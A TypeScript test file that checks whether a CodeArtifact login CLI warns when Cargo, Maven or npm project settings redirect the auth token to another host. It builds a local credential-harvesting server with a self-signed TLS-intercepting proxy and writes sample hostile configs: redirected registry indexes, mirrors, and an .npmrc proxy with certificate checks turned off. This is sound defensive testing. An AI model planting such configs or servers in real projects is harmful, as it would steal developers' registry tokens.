import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { RequestListener } from 'node:http';
import { createServer as createTlsServer } from 'node:https';
import type { AddressInfo, Server } from 'node:net';
import { homedir } from 'node:os';
import path from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { Emulator } from '../../shared/emulator/index.ts';
import { selfSigned } from '../support/aws-self-signed.ts';
import { aCliHome } from '../support/cli-home.ts';
import type { CliHome } from '../support/cli-home.ts';
import { hasClient, run } from '../support/emulator-clients.ts';
import { anEmulator } from '../support/emulator-service.ts';
import { haveClient } from './have-client.ts';
import { javaClients } from './java-clients.ts';
import { cargoSource } from './other-clients.ts';

// Real clients in projects of somebody who wants the token. Where nothing can keep it back, the app has warned before.

const ADDRESS = ['--domain', 'platform', '--repository', 'web'];
const clientsDocument = readFileSync(path.resolve(import.meta.dirname, '../../docs/clients.md'), 'utf8');

type Attacker = {
  readonly host: string;
  readonly url: string;
  /** Credentials that came, without their scheme and the user's name. */
  readonly got: readonly string[];
  readonly asked: () => number;
};

/** A server that asks everybody for a credential; as a proxy it answers TLS itself, with a certificate that nobody trusts. */
async function anAttacker(folder: string | null = null): Promise<Attacker> {
  const got: string[] = [];
  let asked = 0;
  const answer: RequestListener = ({ headers: { authorization } }, response) => {
    asked += 1;
    if (authorization !== undefined) got.push(secretIn(authorization));
    response.writeHead(authorization === undefined ? 401 : 404, { 'www-authenticate': 'Basic realm="x"' }).end();
  };
  const server = createServer(answer);
  if (folder !== null) {
    const signed = selfSigned(folder, 'DNS:attacker.example');
    if (signed === null) throw new Error('A proxy that reads along needs openssl for its certificate');
    const behind = createTlsServer({ key: signed.key, cert: signed.cert }, answer);
    server.on('connect', (_request, socket) => {
      socket.write('HTTP/1.1 200 OK\r\n\r\n');
      behind.emit('connection', socket);
    });
  }
  const port = await portOf(server);
  return { host: `127.0.0.1:${port}`, url: `http://127.0.0.1:${port}/`, got, asked: () => asked };
}

async function portOf(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  return (server.address() as AddressInfo).port;
}

function secretIn(authorization: string): string {
  const [scheme = '', rest = scheme] = authorization.split(' ');
  return scheme === 'Basic' ? Buffer.from(rest, 'base64').toString().replace(/^aws:/, '') : rest;
}

/** Signs in and answers what was said. */
async function logIn(home: CliHome, ...args: readonly string[]): Promise<string> {
  const { code, out, err } = await home.run(['login', ...ADDRESS, '--tool', ...args]);
  expect(code, err).toBe(0);
  return out + err;
}

/** What the doctor says of redirects. */
async function redirects(home: CliHome): Promise<readonly string[]> {
  const { out } = await home.run(['doctor', '--json']);
  const found = out.match(/"code":\s*"credentialRedirected",\s*"message":\s*"[^"]*/g) ?? [];
  return found.map((text) => text.replace(/^.*"/s, ''));
}

function liveToken(emulator: Emulator): string {
  return emulator.issuedTokens.at(-1) ?? '';
}

describe.skipIf(haveClient(cargoSource) === null)('a project that gives the registry of Cargo its own address', () => {
  async function aHome(emulator: Emulator, attacker: Attacker, registry: string): Promise<CliHome> {
    const home = aCliHome(emulator);
    home.write('shop/.cargo/config.toml', `[registries.codeartifact]\nindex = "sparse+${attacker.url}"\n`);
    const about = '[package]\nname = "shop"\nversion = "1.0.0"\nedition = "2021"\n[workspace]\n[dependencies]\n';
    home.write('shop/Cargo.toml', `${about}hello-codeartifact = { version = "1", registry = "${registry}" }\n`);
    home.write('shop/src/lib.rs', '');
    return home;
  }

  const fetchIn = (home: CliHome) =>
    run('cargo', ['fetch', '--manifest-path', home.path('shop/Cargo.toml')], home.path('shop'), {
      HOME: home.folder,
      RUSTUP_HOME: process.env['RUSTUP_HOME'] ?? path.join(homedir(), '.rustup'),
      CARGO_HOME: home.path('.cargo'),
      CARGO_NET_RETRY: '0',
    });

  test('gets the token under the name that is usual, of which login, doctor and documents warn', async () => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const home = await aHome(emulator, attacker, 'codeartifact');
    await logIn(home, 'npm', '--project', home.path('shop'));
    const said = `another address: Cargo sends the token to ${attacker.host}`;
    expect(await logIn(home, 'cargo')).toContain(said);
    expect(await redirects(home)).toEqual([expect.stringContaining(said)]);
    expect(attacker.asked()).toBe(0);
    await fetchIn(home);
    expect(attacker.got).toContain(liveToken(emulator));
    expect(clientsDocument).toContain("Cargo looks a token up by the registry's name");
  });

  test('gets none under a name of its own', async () => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const home = await aHome(emulator, attacker, 'acme-3f9c');
    await logIn(home, 'cargo', '--registry-name', 'acme-3f9c');
    expect(await fetchIn(home)).toMatchObject({ code: 0 });
    expect(attacker.got).toEqual([]);
  });

  test('gets none once the project itself is signed in', async () => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const home = await aHome(emulator, attacker, 'codeartifact');
    await logIn(home, 'cargo', '--project', home.path('shop'));
    expect(await redirects(home)).toEqual([]);
    expect(await fetchIn(home)).toMatchObject({ code: 0 });
    expect(attacker.asked()).toBe(0);
  });
});

const mavens = javaClients.flatMap(({ client, name, source, options, level }) => {
  if (client !== 'maven' || options !== undefined || level === 'project') return [];
  const found = haveClient(source);
  return found === null ? [] : [{ name: `${name} ${found.version ?? ''}`.trim(), program: found.program }];
});

describe.each(mavens)('a pom.xml that gives the repository of $name its own address', ({ program }) => {
  async function aHome(emulator: Emulator, attacker: Attacker, inPom = ''): Promise<CliHome> {
    const home = aCliHome(emulator);
    const parent = '<groupId>com.example</groupId><artifactId>hello-parent</artifactId><version>1.0.0</version>';
    const off = '<releases><enabled>false</enabled></releases><snapshots><enabled>false</enabled></snapshots>';
    home.write(
      'shop/pom.xml',
      `<project><modelVersion>4.0.0</modelVersion><parent>${parent}<relativePath/></parent><artifactId>shop</artifactId>
      <packaging>pom</packaging>${inPom}<repositories>
        <repository><id>central</id><url>http://127.0.0.1:9/</url>${off}</repository>
        <repository><id>platform--web</id><url>${attacker.url}</url></repository>
      </repositories></project>`,
    );
    return home;
  }

  const validateIn = (home: CliHome) =>
    run(program, ['-B', '-N', 'validate'], home.path('shop'), {
      MAVEN_OPTS: `-Duser.home=${home.folder}`,
      MAVEN_SKIP_RC: '1',
    });

  test.each([
    ['a binding at user level', '--server-id', 'platform--web'],
    ['a mirror of everything', '--mirror', '*'],
    ['the binding of a project', '--project', 'shop'],
  ])('gets none through %s: ours is asked', async (_, ...options) => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const home = await aHome(emulator, attacker);
    await logIn(home, 'npm', '--project', home.path('shop'));
    await logIn(home, 'maven', ...options);
    expect(await redirects(home)).toEqual([]);
    expect(await validateIn(home)).toMatchObject({ code: 0 });
    expect(attacker.asked()).toBe(0);
  });

  test('gets none past a mirror of everything either', async () => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const home = await aHome(emulator, attacker);
    const corporate = `<mirror><id>corp</id><url>${attacker.url}</url><mirrorOf>*</mirrorOf></mirror>`;
    home.write('.m2/settings.xml', `<settings><mirrors>${corporate}</mirrors></settings>`);
    await logIn(home, 'maven', '--project', home.path('shop'));
    expect(await validateIn(home)).toMatchObject({ code: 0 });
    expect(attacker.got).toEqual([]);
  });

  test('gets none by settings of the project', async () => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const home = await aHome(emulator, attacker);
    const theirs = `<mirror><id>platform--web</id><url>${attacker.url}</url><mirrorOf>platform--web</mirrorOf></mirror>`;
    home.write('shop/.mvn/settings.xml', `<settings><mirrors>${theirs}</mirrors></settings>`);
    await logIn(home, 'maven', '--project', home.path('shop'));
    const { output } = await validateIn(home);
    expect(attacker.got, output).toEqual([]);
  });

  test('is named where it deploys, which no mirror turns', async () => {
    const emulator = await anEmulator();
    const attacker = await anAttacker();
    const own = `<repository><id>platform--web</id><url>${attacker.url}</url></repository>`;
    const home = await aHome(emulator, attacker, `<distributionManagement>${own}</distributionManagement>`);
    const said = `another address: Maven sends the token to ${attacker.host}`;
    expect(await logIn(home, 'maven', '--project', home.path('shop'))).toContain(said);
    expect(await redirects(home)).toEqual([expect.stringContaining(said)]);
    expect(clientsDocument).toContain('mirrors do not count for');
  });
});

describe.skipIf(!hasClient('npm'))("a project's .npmrc with a proxy and no look at certificates", () => {
  test('has npm give the token to the proxy, of which login, doctor and documents warn', async () => {
    const emulator = await anEmulator();
    const home = aCliHome(emulator);
    const attacker = await anAttacker(home.folder);
    home.write('shop/.npmrc', `https-proxy=${attacker.url}\nproxy=${attacker.url}\nstrict-ssl=false\n`);
    home.write('shop/package.json', '{"name":"shop","version":"1.0.0","private":true}\n');
    const err = await logIn(home, 'npm', '--project', home.path('shop'));
    const says = ['a proxy (https-proxy)', 'a proxy (proxy)', 'check no certificate (strict-ssl)'];
    for (const said of says) expect(err).toContain(said);
    expect(await redirects(home)).toEqual(says.map((said) => expect.stringContaining(said)));
    expect(attacker.asked()).toBe(0);

    // As with CodeArtifact's own host, which is asked over TLS.
    for (const file of ['.npmrc', 'shop/.npmrc']) {
      const host = '//platform-111122223333.d.codeartifact.eu-west-1.amazonaws.com/';
      const text = home.read(file).replaceAll(`${emulator.url}/`, `https:${host}`);
      home.write(file, text.replaceAll(`${emulator.url.replace('http:', '')}/`, host));
    }
    await run('npm', ['view', 'hello-codeartifact'], home.path('shop'), {
      HOME: home.folder,
      npm_config_cache: home.path('cache'),
      npm_config_update_notifier: 'false',
      npm_config_fetch_retries: '0',
    });
    expect(attacker.got).toEqual([liveToken(emulator)]);
    expect(clientsDocument).toContain('these lines decide who reads along');
  });
});
